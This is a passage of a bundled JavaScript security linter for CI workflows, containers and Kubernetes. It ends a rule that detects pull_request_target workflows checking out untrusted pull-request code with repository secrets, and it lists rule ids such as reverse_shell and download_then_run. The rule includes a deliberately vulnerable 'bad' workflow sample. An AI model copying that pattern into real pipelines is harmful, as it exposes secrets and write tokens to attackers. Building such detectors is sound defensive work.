    summary: 'Code of a pull request is checked out where secrets are',
    why: 'Builds run what they find: a Makefile, an install script, a test. With this event that code has the secrets of the repository and a token that can write ("pwn request").',
    instead: 'Use `pull_request` for what builds or tests the code, and hand its result over as data.',
    references: [
        actions('reference/security/securely-using-pull_request_target', 'securely using pull_request_target'),
        {
            title: 'GitHub Security Lab: preventing pwn requests',
            url: 'https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/',
        },
        cwe(829),
        attack('T1195.002'),
    ],
    peers: [
        'scorecard:Dangerous-Workflow',
        'poutine:untrusted_checkout_exec',
        'semgrep:pull-request-target-code-checkout',
        'kics:checkout_of_untrusted_code_in_privileged_context',
    ],
    bad: `
on: pull_request_target
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: make test
`,
    good: `
on: pull_request
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: make test
`,
    on: 'step',
    *check(step) {
        const events = eventsOf(step, privilegedEvents);
        const at = events.length === 0 ? null : (checkedOut(step, events) ?? fetched(step));
        if (!at)
            return;
        const guard = forkGuard(step);
        if (guard === 'own repository')
            return;
        const mild = guard === 'environment' || step.at('with', 'path') !== undefined;
        const severity = guard === 'approval' ? 'medium' : mild ? 'high' : 'critical';
        yield {
            at,
            severity,
            identity: '',
            message: `"${events.join('", "')}" checks out what a pull request brings, with the secrets of the repository`,
        };
    },
}));
/** What a checkout action is told to take. */
function checkedOut(step, events) {
    const { reference, at } = step;
    if (reference?.name !== 'actions/checkout' || (refusesForks(step) && !events.includes('issue_comment')))
        return null;
    for (const input of [at('with', 'ref'), at('with', 'repository')]) {
        if (input?.kind !== 'scalar')
            continue;
        const isRef = pullRequestRef.test(input.string) && (0,expression_find/* findExpressions */.zV)(input.string).length > 0;
        if (isRef || untrustedText(input, scopeOf(step), pullRequestHead) !== null)
            return input;
    }
    return null;
}
/** From version 7 the action refuses commits of forks on pull_request_target and workflow_run, unless told otherwise. */
const refusesForks = ({ reference, at }) => reference !== null && (majorVersion(reference) ?? 0) >= 7 && at('with', 'allow-unsafe-pr-checkout')?.string !== 'true';
/** A script that takes it with git or gh. */
function fetched(step) {
    const all = (0,workflow_shell/* stepInvocations */.Wz)(step);
    const text = (words) => words.map((word) => step.document.text.slice(word.span)).join(' ');
    const takes = all.filter(({ name, args }) => name === 'git' && /^(?:checkout|switch|merge|reset|pull|worktree|rebase)$/.test(subcommand(args)));
    for (const { name, args, command } of all) {
        if (name === 'gh' && args[0]?.value === 'pr' && args[1]?.value === 'checkout')
            return command;
        if (name !== 'git')
            continue;
        const written = text(args);
        const head = pullRequestRef.test(written) || writtenSource(written, scopeOf(step), pullRequestHead) !== null;
        const isFetch = subcommand(args) === 'clone' || (subcommand(args) === 'fetch' && takes.length > 0);
        if (head && (isFetch || takes.some((take) => take.command === command)))
            return command;
    }
    return null;
}
/** Without git's own options: `git -C dir checkout`. */
const subcommand = (args) => args.find(({ value }, index) => !value.startsWith('-') && !/^-[Cc]$/.test(args[index - 1]?.value ?? ''))?.value ?? '';

;// CONCATENATED MODULE: ./lib/rules/index.js
































































































































































/** Every rule, by id. */
const rules = [
    apparmor_disabled,
    capabilities_added,
    capabilities_not_dropped,
    cgroup_parent,
    docker_socket_mount,
    host_ipc,
    host_network,
    host_pid,
    host_user_namespace,
    memory_limit_missing,
    mount_propagation_shared,
    no_new_privileges_missing,
    pids_limit_missing,
    port_on_all_interfaces,
    privileged,
    seccomp_disabled,
    selinux_disabled,
    sensitive_host_path,
    writable_root_filesystem,
    git_repo_volume,
    add_instead_of_copy,
    add_remote,
    dockerfile_docker_socket_mount,
    download_then_run,
    healthcheck_missing,
    non_numeric_user,
    package_signature_unchecked,
    password_in_run,
    pipefail_not_set,
    plaintext_download,
    runs_as_root,
    secret_in_env_or_arg,
    ssh_port,
    stale_package_index,
    sudo,
    tls_verification_disabled,
    unpinned_package,
    workdir_system_directory,
    world_writable,
    container_hardening_removed,
    gate_changed,
    policy_changed,
    waiver_added,
    waiver_expired,
    deprecated_registry,
    digest_removed,
    mutable_tag,
    not_pinned_by_digest,
    registry_not_allowed,
    allow_privilege_escalation,
    apparmor_unconfined,
    capabilities_add_dangerous,
    capabilities_add_disallowed,
    capabilities_add_restricted,
    k8s_capabilities_not_dropped,
    container_runtime_socket_mount,
    cpu_limit_missing,
    cpu_request_missing,
    default_namespace,
    default_service_account,
    deprecated_api_version,
    k8s_host_ipc,
    k8s_host_network,
    host_path_sensitive,
    host_path_volume,
    host_path_writable,
    k8s_host_pid,
    host_port,
    host_probes_lifecycle,
    kubernetes_dashboard_deployed,
    k8s_memory_limit_missing,
    memory_request_missing,
    pod_security_label_missing,
    pod_security_privileged_namespace,
    privileged_container,
    proc_mount_unmasked,
    read_only_root_filesystem,
    run_as_high_uid,
    run_as_non_root,
    run_as_root_group,
    run_as_user_zero,
    seccomp_profile_missing,
    seccomp_unconfined,
    secret_env_var,
    secret_manifest_committed,
    security_setting_removed,
    selinux_options,
    service_account_token_automount,
    service_account_token_secret,
    k8s_ssh_port,
    tiller_deployed,
    unsafe_sysctls,
    volume_types_restricted,
    whole_secret_mounted,
    windows_host_process,
    admission_webhooks,
    anonymous_binding,
    authenticated_binding,
    cluster_admin_binding,
    configmap_modify,
    csr_approve,
    default_service_account_binding,
    delete_events,
    escalate_bind,
    impersonate,
    network_modify,
    node_proxy,
    persistent_volume_create,
    pod_exec,
    pod_portforward,
    secrets_access,
    system_masters_binding,
    token_create,
    wildcard,
    workload_create,
    connection_string,
    credential_file,
    default_login,
    default_password,
    in_history,
    in_image_layer,
    kubernetes_secret,
    password_argument,
    password_hash,
    secret_password,
    possible_credential,
    private_key,
    provider_token,
    unencrypted_sops_value,
    all_secrets_exposed,
    always_true_condition,
    archived_action,
    bypassable_contains_condition,
    cache_poisoning,
    credential_persistence,
    dangerous_trigger,
    dependabot_cooldown_missing,
    dependabot_external_code_execution,
    deprecated_workflow_command,
    workflow_download_then_run,
    excessive_permissions,
    github_app_token_overscoped,
    github_env_injection,
    image_published_unscanned,
    insecure_commands_enabled,
    obfuscated_workflow,
    permissions_missing,
    reverse_shell,
    runner_debug_enabled,
    secrets_inherit,
    secrets_outside_environment,
    self_hosted_runner_on_pull_request,
    spoofable_actor_condition,
    static_publish_credential,
    template_injection,
    typosquatted_action,
    unpinnable_action,
    unpinned_action,
    unredacted_secret,
    untrusted_checkout,
];


/***/ }),

/***/ 9160:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   O: () => (/* binding */ once)
/* harmony export */ });
/** A function that makes its value on first use, and keeps it. */
function once(make) {
    let made;
    return () => {
        made ??= { value: make() };
        return made.value;
    };
}


/***/ }),

/***/ 9798:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $f: () => (/* binding */ overlaps),
/* harmony export */   D: () => (/* binding */ SourceText),
/* harmony export */   gR: () => (/* binding */ contains),
/* harmony export */   hQ: () => (/* binding */ blank)
/* harmony export */ });
/** The text of one file, with its line starts found on first use. Lines end at LF, as git and GitHub count them; a CR before it belongs to the break. */
class SourceText {
    path;
    value;
    #starts;
    constructor(path, value) {
        this.path = path;
        this.value = value;
    }
    get #lineStarts() {
        this.#starts ??= lineStarts(this.value);
        return this.#starts;
    }
    get lineCount() {
        return this.#lineStarts.length;
    }
    /** Offsets past the end count as the end. */
    position(offset) {
        const starts = this.#lineStarts;
        const at = Math.max(0, Math.min(offset, this.value.length));
        let low = 0;
        let high = starts.length - 1;
        while (low < high) {
            const middle = (low + high + 1) >> 1;
            if ((starts[middle] ?? 0) <= at)
                low = middle;
            else
                high = middle - 1;
        }
        return { line: low + 1, column: at - (starts[low] ?? 0) + 1 };
    }
    /** The span of a 1-based line without its line break; empty at the end for a line that does not exist. */
    line(number) {
        const start = this.#lineStarts[number - 1] ?? this.value.length;
        let end = this.#lineStarts[number] ?? this.value.length;
        if (end > start && this.value.charCodeAt(end - 1) === 10)
            end--;
        if (end > start && this.value.charCodeAt(end - 1) === 13)
            end--;
        return { start, end };
    }
    /** The span of a 1-based line with its line break. */
    lineWithBreak(number) {
        const start = this.#lineStarts[number - 1] ?? this.value.length;
        return { start, end: this.#lineStarts[number] ?? this.value.length };
    }
    slice(span) {
        return this.value.slice(span.start, span.end);
    }
}
function lineStarts(value) {
    const starts = [0];
    for (let at = value.indexOf('\n'); at >= 0; at = value.indexOf('\n', at + 1))
        starts.push(at + 1);
    return starts;
}
/** As long, and with the same lines, but nothing on them. */
const blank = (text) => text.replace(/[^\r\n]/g, ' ');
const contains = (outer, inner) => outer.start <= inner.start && inner.end <= outer.end;
/** Empty spans overlap what surrounds them, so that an insertion into a masked value counts. */
const overlaps = (a, b) => a.start === a.end || b.start === b.end ? a.start <= b.end && b.start <= a.end : a.start < b.end && b.start < a.end;


/***/ })

};
